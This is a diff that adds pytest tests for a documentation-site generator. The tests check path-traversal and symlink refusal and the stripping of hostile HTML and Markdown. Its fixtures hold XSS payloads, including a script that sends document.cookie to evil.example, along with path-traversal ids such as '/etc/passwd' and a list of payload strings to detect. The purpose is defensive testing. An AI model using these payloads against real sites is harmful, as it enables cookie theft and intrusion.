@@ -24,6 +24,7 @@ import re
 import shutil
 import subprocess
 import sys
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import Optional
 
@@ -196,6 +197,23 @@ def element_text(page_html: str, element_id: str) -> str:
     m = re.search(r'<(p|h[1-6])[^>]*\bid="%s"[^>]*>(.*?)</\1>' % re.escape(element_id), page_html, re.DOTALL)
     assert m, f"no element with id {element_id!r}"
     return text_of(m.group(2))
+
+
+class _Elements(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, dict]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+
+def elements(fragment: str) -> list[tuple[str, dict]]:
+    """``(tag, attributes)`` of every element in an HTML fragment, as a browser would parse them."""
+    parser = _Elements()
+    parser.feed(fragment)
+    parser.close()
+    return parser.found
 
 
 def ids(page_html: str) -> list[str]:
@@ -776,3 +794,276 @@ def test_section_ids_do_not_change_when_sections_are_reordered(tmp_path):
     assert forward == backward
     assert forward["Текст."] == "что-такое-llama" and forward["Leaked."] == "alert"
     assert all(not re.search(r"_\d+$", i) for i in forward.values())
+
+
+# =============================================================================================
+# 4. slugs and paths
+# =============================================================================================
+
+def _titles_07() -> list[str]:
+    return [t for t in CASES["07-titles-to-file-names/titles.txt"].decode().split("\n") if t]
+
+
+def test_case_07_titles_that_slug_alike_are_an_error_naming_both_files(tmp_path):
+    articles = {f"{t}.txt": f"{t}\n\nText of the article called {t}.\n" for t in _titles_07()}
+    root = write_project(tmp_path, articles, [page("page-one")])
+    code, _, err = curate(root)
+    assert code == 1
+    assert ("content_sources/articles/What is Llama?.txt: gives the same source id 'what-is-llama' as "
+            "content_sources/articles/What is Llama!.txt\n    hint: rename one of the two files") in err
+    assert not (root / "docs" / "sources").exists()
+
+
+def test_case_07_titles_make_safe_file_names_and_links_resolve(tmp_path):
+    articles = {f"{t}.txt": f"{t}\n\nText of the article called {t}.\n" for t in _titles_07()[:3]}
+    pages = [page(pid, [sid], title) for pid, sid, title in [
+        ("what-is-open-source", "what-is-open-source", "What is ‘open source’?"),
+        ("security-threat", "security-threat-llama-leak", "Security threat: Llama leak"),
+        ("what-is-llama", "what-is-llama", "What is Llama?"),
+        ("what-is-llama-now", "what-is-llama", "What is Llama!")]]
+    root = write_project(tmp_path, articles, pages)
+    code, _, err = curate(root)
+    assert code == 0, err
+    assert sorted(generated(root)) == ["glossary.md", "index.md", "security-threat.md", "sources/index.md",
+                                       "sources/security-threat-llama-leak.md", "sources/what-is-llama.md",
+                                       "sources/what-is-open-source.md", "tags.md", "what-is-llama-now.md",
+                                       "what-is-llama.md", "what-is-open-source.md"]
+    assert_generated_output_is_clean(root)
+    mkdocs(root)
+    assert_links_resolve(root)
+    assert front_matter(root, "what-is-llama-now.md")["title"] == "What is Llama!"
+
+
+BAD_PAGE_IDS = {
+    "../escape": "'../escape' is not allowed: a page id becomes a file name in docs/, so it may not hold '..', '/', "
+                 "'\\', a drive letter or an absolute path",
+    "/etc/passwd": "'/etc/passwd' is not allowed: a page id becomes a file name in docs/",
+    "C:evil": "'C:evil' is not allowed: a page id becomes a file name in docs/",
+    "a/b": "'a/b' is not allowed",
+    "a\\\\b": "'a\\b' is not allowed",
+    "What-Is-Llama": "'What-Is-Llama' is not a valid id: use lower-case ASCII letters, digits and '-' (for example "
+                     "'what-is-llama')",
+    "-dash": "'-dash' is not a valid id",
+    "什么": "'什么' is not a valid id: use lower-case ASCII letters, digits and '-'",
+    "index": "'index' is reserved for a page curate writes itself; choose another id",
+    "sources": "'sources' is reserved for a page curate writes itself",
+}
+
+
+@pytest.mark.parametrize("pid", sorted(BAD_PAGE_IDS))
+def test_unsafe_page_ids_are_refused(tmp_path, pid):
+    curation = ("site:\n  title: Test\n  description: A test.\npages:\n"
+                f"  - id: \"{pid}\"\n    title: A page\n    description: A page.\n")
+    err = _curation_error(tmp_path, curation)
+    assert f"content_sources/curation.yml:5: pages[0].id: {BAD_PAGE_IDS[pid]}" in err
+    assert not any(tmp_path.parent.glob("escape*")) and not (tmp_path / "docs" / "a").exists()
+
+
+def test_two_pages_with_one_id_are_an_error_naming_both_lines(tmp_path):
+    curation = curation_yaml([page("what-is-llama", [], "What is Llama?"), page("what-is-llama", [], "What is Llama!")])
+    err = _curation_error(tmp_path, curation)
+    assert ("content_sources/curation.yml:8: pages[1].id: page id 'what-is-llama' is used twice (first on line 5)\n"
+            "    hint: give each page its own id") in err
+
+
+@pytest.mark.parametrize("intro", ["../../etc/passwd", "/etc/passwd", "C:/intro.md", "pages\\x.md", "pages/../../x.md"])
+def test_intro_paths_outside_content_sources_are_refused(tmp_path, intro):
+    err = _curation_error(tmp_path, curation_yaml([page("page-one", [], intro_path=intro)]))
+    assert (f"content_sources/curation.yml:8: pages[0].intro: '{intro}' is not allowed: give a path inside "
+            "content_sources/, such as pages/what-is-llama.md (no '..', no absolute path, no drive letter, no '\\')") in err
+
+
+def test_symbolic_links_out_of_the_project_are_refused(tmp_path):
+    secret = tmp_path / "outside" / "secret.txt"
+    secret.parent.mkdir()
+    secret.write_text("Secret title\n\nThe secret outside the project.\n", encoding="utf-8")
+    root = write_project(tmp_path / "project", {"good.txt": "Good title\n\nGood text.\n"}, [page("page-one", ["good"])])
+    (root / "content_sources" / "articles" / "leak.txt").symlink_to(secret)
+    (root / "content_sources" / "pages" / "page-one.md").unlink()
+    (root / "content_sources" / "pages" / "page-one.md").symlink_to(secret)
+    code, _, err = curate(root)
+    assert code == 1
+    assert (f"content_sources/articles/leak.txt: it is a symbolic link to {secret}, outside the project; curate "
+            "reads nothing outside it\n    hint: copy the file into content_sources/ instead of linking to it") in err
+    assert f"content_sources/pages/page-one.md: it is a symbolic link to {secret}, outside the project" in err
+    assert not (root / "docs" / "index.md").exists()
+
+
+def test_a_linked_folder_out_of_the_project_is_refused(tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("Secret\n\nThe secret outside the project.\n", encoding="utf-8")
+    root = write_project(tmp_path / "project", {}, [page("page-one")])
+    articles = root / "content_sources" / "articles"
+    articles.rmdir()
+    articles.symlink_to(outside, target_is_directory=True)
+    code, _, err = curate(root)
+    assert code == 1
+    assert (f"content_sources/articles/secret.txt: content_sources/articles is a symbolic link to {outside}, outside "
+            "the project; curate reads nothing outside it") in err
+
+
+def test_a_symbolic_link_inside_the_project_is_fine(tmp_path):
+    root = write_project(tmp_path, {"real.txt": "Real title\n\nReal text.\n"}, [page("page-one", ["alias"])])
+    (root / "content_sources" / "articles" / "alias.txt").symlink_to("real.txt")
+    code, _, err = curate(root)
+    assert code == 0, err
+    assert "Real text." in docs_text(root, "sources/alias.md")
+
+
+SOURCE_NAME_ERRORS = {
+    "same stem, two formats": ({"llama.txt": "T\n\nText.\n", "llama.md": "Text.\n"},
+                               "content_sources/articles/llama.txt: gives the same source id 'llama' as "
+                               "content_sources/articles/llama.md"),
+    "reserved name": ({"index.txt": "T\n\nText.\n"},
+                      "content_sources/articles/index.txt: the source id 'index' is reserved (docs/sources/index.md is "
+                      "the list of sources)\n    hint: rename the file, such as index-article.txt"),
+    "no latin letters": ({"什么是开源.txt": "T\n\nText.\n"},
+                         "content_sources/articles/什么是开源.txt: the file name gives an empty id\n    hint: rename "
+                         "the file with Latin letters or digits, such as llama-article.txt"),
+    "case only": ({"Llama.txt": "T\n\nText.\n", "llama.txt": "T\n\nOther.\n"},
+                  "content_sources/articles/llama.txt: gives the same source id 'llama' as "
+                  "content_sources/articles/Llama.txt"),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(SOURCE_NAME_ERRORS))
+def test_source_file_names_that_clash_or_give_no_id_are_errors(tmp_path, kind):
+    articles, message = SOURCE_NAME_ERRORS[kind]
+    root = write_project(tmp_path, articles, [page("page-one")])
+    code, _, err = curate(root)
+    assert code == 1
+    assert message in err
+
+
+def test_source_file_names_become_safe_ascii_slugs(tmp_path):
+    names = ["Ünïcödé Tïtle.txt", "  spaces  and__underscores .txt", "UPPER CASE!!.md", "2024-07-23 report.txt",
+             "emoji 🚨 inside.txt", "dots.in.name.txt"]
+    root = write_project(tmp_path, {n: "A title\n\nSome text.\n" for n in names}, [page("page-one")])
+    code, _, err = curate(root)
+    assert code == 0, err
+    assert sorted(p for p in generated(root) if p.startswith("sources/")) == [
+        "sources/2024-07-23-report.md", "sources/dots-in-name.md", "sources/emoji-inside.md", "sources/index.md",
+        "sources/spaces-and-underscores.md", "sources/unicode-title.md", "sources/upper-case.md"]
+    assert_generated_output_is_clean(root)
+
+
+# =============================================================================================
+# 5. hostile content
+# =============================================================================================
+
+HOSTILE_TXT = (
+    CASES["06-script-injection/article.txt"].decode()
+    + "\nA frame follows. <iframe src=\"https://evil.example/frame\">fallback frame text</iframe> Then more text.\n"
+    "\nStyled text. <style>body { display: none }</style> Still here.\n"
+    "\nA <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a> and "
+    "<img src=\"data:image/svg+xml,<svg onload=alert(3)>\"> an image.\n"
+    "\nVisible before. <!-- hidden single-line secret --> Visible after.\n"
+    "\nBefore the long comment.\n\n<!-- hidden across\n\nparagraphs secret two\n\n-->\n\nAfter the long comment.\n"
+    "\n<svg onload=\"alert(4)\"><circle r=\"1\"/></svg> Vector text survives.\n"
+    "\n<div onclick=\"alert(5)\" style=\"color:red\">Div text survives.</div>\n"
+    "\n<script>\nvar stolen = document.cookie;\n\nfetch('https://evil.example/' + stolen);\n</script>\n"
+    "\nAfter the script block.\n"
+    "\n<form action=\"javascript:alert(6)\"><input value=\"x\" onfocus=\"alert(7)\"></form>Form text survives.\n"
+    "\nComparison x < y and y > z survives, and so does 3<4.\n"
+    "\nSome <unknown-tag> stays as text, and so does an unclosed <!-- comment opener.\n"
+    "\nAT&amp;T and &lt;b&gt; are entities, decoded as text.\n"
+)
+HOSTILE_MD = (
+    "---\ntitle: \"<script>x()</script> Hostile Markdown\"\npublisher: \"<b>Evil Corp</b> <i>News</i>\"\n---\n"
+    "# Hostile markdown\n\nA [link](javascript:alert(9)) in Markdown. ![chart](data:image/png;base64,AAAA)\n\n"
+    "<div onmouseover=\"alert(10)\">\n\nBlock HTML text survives.\n\n</div>\n\n"
+    "Inline <span onclick=\"alert(11)\">span text</span> survives; `<script>` in code stays literal.\n\n"
+    "<script>alert(12)</script>\n\n"
+    "<!--\n\nA comment hiding a paragraph secret three.\n\n-->\n\nThe last paragraph survives.\n"
+)
+SURVIVING = [
+    "Researchers found a leaked model file.", "See details.", "The rest of the paragraph must survive.",
+    "A frame follows. Then more text.", "Styled text. Still here.", "A data link and an image.",
+    "Visible before. Visible after.", "Before the long comment.", "After the long comment.",
+    "Vector text survives.", "Div text survives.", "After the script block.", "Form text survives.",
+    "Comparison x < y and y > z survives, and so does 3<4.",
+    "Some <unknown-tag> stays as text, and so does an unclosed <!-- comment opener.",
+    "AT&T and <b> are entities, decoded as text.",
+]
+SURVIVING_MD = ["A link in Markdown.", "Block HTML text survives.",
+                "Inline span text survives; <script> in code stays literal.", "The last paragraph survives."]
+PAYLOADS = ["evil.example", "alert(", "document.cookie", "secret", "display: none", "fallback frame", "onerror",
+            "onload", "onclick", "onmouseover", "onfocus", "javascript:", "data:text/html", "data:image"]
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory) -> Path:
+    root = tmp_path_factory.mktemp("hostile") / "project"
+    write_project(root, {"hostile.txt": HOSTILE_TXT, "hostile-md.md": HOSTILE_MD},
+                  [page("security-threat", ["hostile", "hostile-md"], "Security threat",
+                        description='Hostile <b>bold</b> description " autofocus x="')])
+    code, _, err = curate(root)
+    assert code == 0, err
+    mkdocs(root)
+    return root
+
+
+def test_case_06_sentences_survive_and_no_script_reaches_docs_or_site(hostile_site):
+    text = docs_text(hostile_site, "sources/hostile.md")
+    assert "Researchers found a leaked model file.\n{ #lead--p1 }" in text
+    page_html = article(site_html(hostile_site, "sources/hostile.md"))
+    assert element_text(page_html, "lead--p1") == "Researchers found a leaked model file."
+    assert element_text(page_html, "lead--p2") == "See details."
+    assert element_text(page_html, "lead--p3") == "The rest of the paragraph must survive."
+
+
+@pytest.mark.parametrize("sentence", SURVIVING)
+def test_surrounding_sentences_survive_in_docs_site_and_search(hostile_site, sentence):
+    visible = text_of(article(site_html(hostile_site, "sources/hostile.md")))
+    assert sentence in visible
+    assert sentence in text_of(article(site_html(hostile_site, "security-threat.md")))
+    indexed = " ".join(text_of(d["text"]) for d in search_index(hostile_site) if d["location"].startswith("sources/hostile/"))
+    assert sentence in indexed
+
+
+@pytest.mark.parametrize("sentence", SURVIVING_MD)
+def test_markdown_source_keeps_its_text_and_loses_its_markup(hostile_site, sentence):
+    assert sentence in text_of(article(site_html(hostile_site, "sources/hostile-md.md")))
+
+
+def test_no_payload_reaches_docs_site_or_search_index(hostile_site):
+    outputs = {f"docs/{p}": d.decode() for p, d in generated(hostile_site).items()}
+    outputs.update({str(p.relative_to(hostile_site)): p.read_text(encoding="utf-8")
+                    for p in (hostile_site / "site").rglob("*.html")})
+    outputs["search_index.json"] = (hostile_site / "site" / "search" / "search_index.json").read_text(encoding="utf-8")
+    for name, text in outputs.items():
+        lowered = html.unescape(text).lower().replace('href="javascript:void(0)"', "")  # the theme's search button
+        assert [p for p in PAYLOADS if p in lowered] == [], name
+
+
+def test_no_source_markup_is_an_element_or_attribute_in_the_rendered_pages(hostile_site):
+    for path in ("sources/hostile.md", "sources/hostile-md.md", "security-threat.md"):
+        found = elements(article(site_html(hostile_site, path)))
+        # the theme's own: article, the edit button (a, svg, path), footnotes (div, hr, ol, sup)
+        assert {tag for tag, _ in found} <= {"article", "a", "svg", "path", "h1", "h2", "p", "ul", "li", "strong",
+                                             "em", "code", "sup", "div", "ol", "hr"}, path
+        for tag, attrs in found:
+            assert not [a for a in attrs if a.startswith("on") or a in ("style", "srcdoc", "formaction")], (path, tag)
+            for key in ("href", "src", "action", "xlink:href"):
+                assert not re.match(r"\s*(javascript|data|vbscript):", attrs.get(key) or "", re.I), (path, tag)
+    assert "<svg" not in docs_text(hostile_site, "sources/hostile.md")
+
+
+def test_hostile_metadata_is_shown_as_text_never_as_markup(hostile_site):
+    fm = front_matter(hostile_site, "sources/hostile-md.md")
+    assert fm["title"] == "<script>x()</script> Hostile Markdown"
+    page_html = site_html(hostile_site, "sources/hostile-md.md")
+    assert "<script>x()" not in page_html and "<b>Evil Corp</b>" not in page_html
+    assert element_text(page_html, re.search(r'<h1 id="([^"]+)"', page_html).group(1)) == fm["title"]
+    assert text_of(re.search(r"<title>(.*?)</title>", page_html, re.DOTALL).group(1)).startswith(fm["title"])
+    assert "Publisher: <b>Evil Corp</b> <i>News</i>" in text_of(article(page_html))
+    assert "**Publisher:** &lt;b&gt;Evil Corp&lt;/b&gt; &lt;i&gt;News&lt;/i&gt;" in \
+        docs_text(hostile_site, "sources/hostile-md.md")
+    explainer = site_html(hostile_site, "security-threat.md")
+    meta = [attrs for tag, attrs in elements(explainer) if tag == "meta" and attrs.get("name") == "description"]
+    assert meta == [{"name": "description", "content": 'Hostile <b>bold</b> description " autofocus x="'}]
+    assert "<b>bold</b>" not in explainer
+    assert 'Hostile <b>bold</b> description " autofocus x="' in text_of(article(explainer))
+
+
